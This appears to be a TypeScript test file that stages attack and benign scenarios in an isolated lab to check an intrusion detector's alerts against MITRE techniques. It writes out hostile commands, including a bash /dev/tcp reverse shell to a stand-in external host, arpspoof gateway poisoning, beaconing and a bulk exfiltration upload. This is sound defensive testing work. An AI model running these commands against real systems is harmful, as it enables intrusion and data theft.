// The first staged scenarios: the core attacks (scans, ARP spoofing, a reverse shell, DNS tunnel,
// beacon, exfiltration, lateral sessions, Tor, an office app spawning a shell, a C2 port) and the
// everyday benign baselines (browser pools, SSH, a multi-address host, DNS lookups, idle).
import { copyFileSync } from 'node:fs';
import { join } from 'node:path';
import { startAgent } from './agents';
import { ADDR, NS, delay, labMac, type Lab } from './lab';
import { isEndpoint, mentions, sessions, stopping } from './scenario-kit';
import { BEACON_SCENARIOS } from './scenarios-beacon';
import type { Scenario, StagedActivity } from './scenarios';

function nmapScan(kind: '-sS' | '-sT'): (lab: Lab) => Promise<StagedActivity> {
  return async (lab) => {
    const scan = lab.run(NS.attacker, ['nmap', kind, '-Pn', '-n', '-T4', '-p-', ADDR.victim]);
    return {
      names: (alert) => isEndpoint(alert.source, ADDR.attacker) || mentions(alert, ADDR.attacker),
      stop: stopping(scan),
    };
  };
}

/** Makes the victim resolve the gateway's real MAC (no ping here: one UDP datagram does it). */
async function learnGatewayMac(lab: Lab): Promise<void> {
  lab.exec(NS.victim, 'bash', '-c', `echo hello > /dev/udp/${ADDR.gw}/53`);
  await delay(300);
  const neigh = lab.exec(NS.victim, 'ip', 'neigh', 'show', ADDR.gw);
  if (!neigh.includes(labMac(ADDR.gw))) throw new Error(`victim did not learn the gateway MAC: ${neigh}`);
}

/** The core attacks, the beacon variants after the plain beacon. */
export const CORE_ATTACK_SCENARIOS: Scenario[] = [
  {
    id: 'nmap-syn-scan',
    title: 'nmap SYN scan (-sS -p-) from the attacker',
    expected: 'T1046',
    mustName: `source ${ADDR.attacker}`,
    needs: ['nmap'],
    windowMs: 15_000,
    stage: nmapScan('-sS'),
  },
  {
    id: 'nmap-connect-scan',
    title: 'nmap connect scan (-sT -p-) from the attacker',
    expected: 'T1046',
    mustName: `source ${ADDR.attacker}`,
    needs: ['nmap'],
    windowMs: 20_000,
    stage: nmapScan('-sT'),
  },
  {
    id: 'arp-spoof',
    title: "arpspoof poisons the victim's entry for the gateway",
    expected: 'T1557.002',
    mustName: `gateway ${ADDR.gw} or attacker MAC ${labMac(ADDR.attacker)}`,
    needs: ['arpspoof'],
    windowMs: 15_000,
    before: learnGatewayMac,
    async stage(lab) {
      const spoof = lab.run(NS.attacker, ['arpspoof', '-i', 'eth0', '-t', ADDR.victim, ADDR.gw]);
      return {
        names: (alert) => mentions(alert, ADDR.gw) || mentions(alert, labMac(ADDR.attacker)),
        // arpspoof re-ARPs the real MAC for a few seconds after SIGTERM.
        stop: async () => {
          await spoof.stop('SIGTERM', 8000);
        },
      };
    },
    // After arpspoof's clean-up re-ARP the alert must still blame the attacker's MAC, not the restored one.
    settleMs: 3000,
    checkFinal(alerts) {
      const change = alerts.find((a) => a.ruleId === 'arp-poisoning' && a.evidence.gateway === true && a.evidence.ip === ADDR.gw);
      if (!change) return 'no MAC-change alert for the gateway';
      const { newMac, restored } = change.evidence;
      if (newMac !== labMac(ADDR.attacker)) return `final alert names ${String(newMac)} as the new MAC, not the attacker's ${labMac(ADDR.attacker)}`;
      if (restored !== true) return 'final alert does not record the restore of the real MAC';
      if (!change.description.includes(labMac(ADDR.attacker)) || !change.description.includes(`then ${labMac(ADDR.gw)} was restored`)) {
        return `final description does not tell the attack window: ${change.description}`;
      }
      return undefined;
    },
    async after(lab) {
      lab.exec(NS.victim, 'ip', 'neigh', 'flush', 'all');
    },
  },
  {
    id: 'reverse-shell',
    title: `bash /dev/tcp reverse shell to ${ADDR.ext}:443`,
    expected: 'T1059.004',
    mustName: 'process bash',
    // The lab starts bash from the test runner (node), which a parent→child rule may also flag.
    alsoTrue: ['T1059'],
    windowMs: 10_000,
    async stage(lab) {
      const shell = lab.run(NS.victim, ['bash', '-c', `bash -i >& /dev/tcp/${ADDR.ext}/443 0>&1`]);
      return { names: (alert) => alert.process?.name === 'bash', stop: stopping(shell) };
    },
  },
  {
    id: 'dns-tunnel',
    title: `DNS flood, long random names, to foreign resolver ${ADDR.foreignDns}`,
    expected: 'T1071.004',
    mustName: `resolver ${ADDR.foreignDns}`,
    windowMs: 30_000,
    async stage(lab) {
      const flood = await startAgent(lab, NS.victim, 'dns-flood', ['--server', `${ADDR.foreignDns}:53`, '--rate', '25', '--seconds', '45']);
      return {
        names: (alert) => isEndpoint(alert.destination, ADDR.foreignDns) || mentions(alert, ADDR.foreignDns),
        stop: stopping(flood),
      };
    },
  },
  {
    id: 'beacon',
    title: `beacon: one short connection every 2.5 s ± 0.2 s to ${ADDR.ext}:8443`,
    expected: 'T1071',
    mustName: `destination ${ADDR.ext}:8443`,
    windowMs: 75_000,
    async stage(lab) {
      const beacon = await startAgent(lab, NS.victim, 'beacon', ['--target', `${ADDR.ext}:8443`, '--period', '2500', '--jitter', '200']);
      return {
        names: (alert) => isEndpoint(alert.destination, ADDR.ext, [8443]) || mentions(alert, ADDR.ext),
        stop: stopping(beacon),
      };
    },
  },
  ...BEACON_SCENARIOS,
  {
    id: 'exfil-upload',
    // The rule's documented default threshold is 100 MB within 5 min; 64 MB stays silent by design.
    title: `upload of 128 MB at 12 MB/s to ${ADDR.ext}:8080`,
    expected: 'T1048',
    mustName: `destination ${ADDR.ext}`,
    windowMs: 25_000,
    async stage(lab) {
      const upload = await startAgent(lab, NS.victim, 'upload', ['--target', `${ADDR.ext}:8080`, '--mb', '128', '--rate', '12', '--linger', '10']);
      return {
        names: (alert) => isEndpoint(alert.destination, ADDR.ext) || mentions(alert, ADDR.ext),
        stop: stopping(upload),
      };
    },
  },
  {
    id: 'admin-sessions',
    title: 'one process opens SSH, RDP and SMB sessions to 3 internal servers',
    expected: 'T1021',
    mustName: 'the sessions process (pid)',
    windowMs: 15_000,
    async stage(lab) {
      const [srv1, srv2, srv3] = ADDR.srv;
      const client = await sessions(lab, [`${srv1}:22`, `${srv2}:3389`, `${srv3}:445`], 60);
      return { names: (alert) => alert.process?.pid === client.pid, stop: stopping(client) };
    },
  },
  {
    id: 'tor-ports',
    title: `sessions to Tor ports ${ADDR.tor}:9001 and :9050`,
    expected: 'T1090.003',
    mustName: `destination ${ADDR.tor} (9001/9050)`,
    windowMs: 15_000,
    async stage(lab) {
      const client = await sessions(lab, [`${ADDR.tor}:9001`, `${ADDR.tor}:9050`], 60);
      return {
        names: (alert) => isEndpoint(alert.destination, ADDR.tor, [9001, 9050]) || mentions(alert, ADDR.tor),
        stop: stopping(client),
      };
    },
  },
  {
    id: 'office-spawns-shell',
    title: 'a process named soffice.bin spawns a shell',
    expected: 'T1059',
    mustName: 'soffice.bin → bash',
    // The copy lives in the lab's /tmp folder: a program run from /tmp starting a shell is T1105 too.
    alsoTrue: ['T1105'],
    windowMs: 10_000,
    async stage(lab) {
      const office = join(lab.tmp, 'soffice.bin');
      copyFileSync('/bin/bash', office);
      // The trailing ':' keeps both shells alive as parent and child (no exec of the last command).
      const proc = lab.run(NS.victim, [office, '-c', 'bash -c "sleep 60; :"; :']);
      return {
        names: (alert) => mentions(alert, 'soffice.bin') && (alert.process?.name === 'bash' || alert.process?.name === 'soffice.bin'),
        stop: stopping(proc),
      };
    },
  },
  {
    id: 'bad-port-4444',
    title: `session to ${ADDR.ext}:4444 (Metasploit default)`,
    expected: 'T1571',
    mustName: `destination port 4444`,
    windowMs: 10_000,
    async stage(lab) {
      const client = await sessions(lab, [`${ADDR.ext}:4444`], 60);
      return {
        names: (alert) => isEndpoint(alert.destination, ADDR.ext, [4444]) || mentions(alert, '4444'),
        stop: stopping(client),
      };
    },
  },
];

/** Everyday activity that must raise no HIGH/CRITICAL alert (after the benign corpus in the full list). */
export const CORE_BENIGN_SCENARIOS: Scenario[] = [
  {
    id: 'benign-browser',
    title: 'browser-like pools: 6 keep-alive connections to each of 3 web servers, irregular requests',
    expected: null,
    forbidden: ['T1071', 'T1046', 'T1048'],
    mustName: '-',
    windowMs: 30_000,
    async stage(lab) {
      const [a, b, c] = ADDR.web;
      const browser = await startAgent(lab, NS.victim, 'browse', [
        '--server',
        `${a}:443`,
        '--server',
        `${b}:443`,
        '--server',
        `${c}:80`,
        '--pool',
        '6',
        '--seconds',
        '60',
      ]);
      return { names: () => false, stop: stopping(browser) };
    },
  },
  {
    id: 'benign-ssh',
    title: `one SSH-port session to ${ADDR.srv[0]}`,
    expected: null,
    forbidden: ['T1021'],
    mustName: '-',
    windowMs: 12_000,
    async stage(lab) {
      const client = await sessions(lab, [`${ADDR.srv[0]}:22`], 60, 1500);
      return { names: () => false, stop: stopping(client) };
    },
  },
  {
    id: 'benign-multi-address',
    title: `a LAN host with 3 addresses on one MAC (${ADDR.srv[0]}, ${ADDR.srv1Secondary.join(', ')})`,
    expected: null,
    forbidden: ['T1557.002'],
    mustName: '-',
    windowMs: 12_000,
    async stage(lab) {
      for (const address of ADDR.srv1Secondary) lab.exec(NS.srv1, 'ip', 'addr', 'add', `${address}/24`, 'dev', 'eth0');
      const client = await sessions(
        lab,
        [ADDR.srv[0], ...ADDR.srv1Secondary].map((a) => `${a}:80`),
        60,
        1500,
      );
      await delay(500);
      const neigh = lab.exec(NS.victim, 'ip', 'neigh');
      const sharing = neigh.split('\n').filter((line) => line.includes(labMac(ADDR.srv[0]))).length;
      if (sharing < 3) throw new Error(`expected 3 neighbour entries on ${labMac(ADDR.srv[0])}, got:\n${neigh}`);
      return { names: () => false, stop: stopping(client) };
    },
    async after(lab) {
      for (const address of ADDR.srv1Secondary) lab.exec(NS.srv1, 'ip', 'addr', 'del', `${address}/24`, 'dev', 'eth0');
    },
  },
  {
    id: 'benign-dns',
    title: `ordinary lookups through the configured resolver ${ADDR.gw}`,
    expected: null,
    forbidden: ['T1071.004'],
    mustName: '-',
    windowMs: 12_000,
    async stage(lab) {
      const lookups = await startAgent(lab, NS.victim, 'lookups', ['--seconds', '60']);
      return { names: () => false, stop: stopping(lookups) };
    },
  },
  {
    id: 'benign-idle',
    title: "idle victim (only the lab's own listeners)",
    expected: null,
    mustName: '-',
    windowMs: 8_000,
    async stage() {
      return { names: () => false, stop: async () => {} };
    },
  },
];
